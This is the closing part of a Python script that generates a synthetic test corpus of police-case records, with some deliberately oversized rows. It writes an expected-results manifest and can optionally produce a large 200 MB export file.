            story = ("y" * (5 * 1024 * 1024)) if n == 11 else facts[n % 97:]
            if n in (7, 11):
                rejected += 1
            row = (f"BIG-{n},{'Lahore' if n % 3 else 'Multan'},{date},FIR {n}/2019 PS City,,kiln,BLSA,,,,1,F,"
                   f"{10 + n % 60},,Name {n},,,,{story},SYNTHETIC\n")
            fh.write(row)
            written += len(row.encode())
    return {"path": str(path), "rows": n, "cases": n - rejected, "rejected": rejected, "bytes": path.stat().st_size}


def write_corpus(directory: Path) -> dict:
    directory.mkdir(parents=True, exist_ok=True)
    previous = directory / "expected.json"
    if previous.exists():  # files dropped from the corpus go too
        for name in json.loads(previous.read_text(encoding="utf-8"))["files"]:
            (directory / name).unlink(missing_ok=True)
    manifest = {}
    for case in corpus():
        (directory / case.file).write_bytes(case.data)
        manifest[case.file] = case.manifest()
    doc = {"_about": "Generated by make_corpus.py; do not edit. One entry per file: what it tries, the name it gets "
                     "in the raw folder, the cases and victims that must load and the messages that must appear.",
           "files": manifest}
    (directory / "expected.json").write_text(json.dumps(doc, indent=1, ensure_ascii=False, sort_keys=True) + "\n",
                                             encoding="utf-8")
    return manifest


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="where to write the small files (default: here)")
    parser.add_argument("--big", type=Path, help="also write the 200 MB export into this folder")
    args = parser.parse_args(argv)
    manifest = write_corpus(args.out)
    total = sum(entry["bytes"] for entry in manifest.values())
    print(f"{len(manifest)} files, {total / 1024:.0f} KB, in {args.out}")
    if args.big:
        big = write_big(args.big)
        print(f"big file: {big['path']} ({big['bytes'] / 2**20:.0f} MB, {big['rows']} rows)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
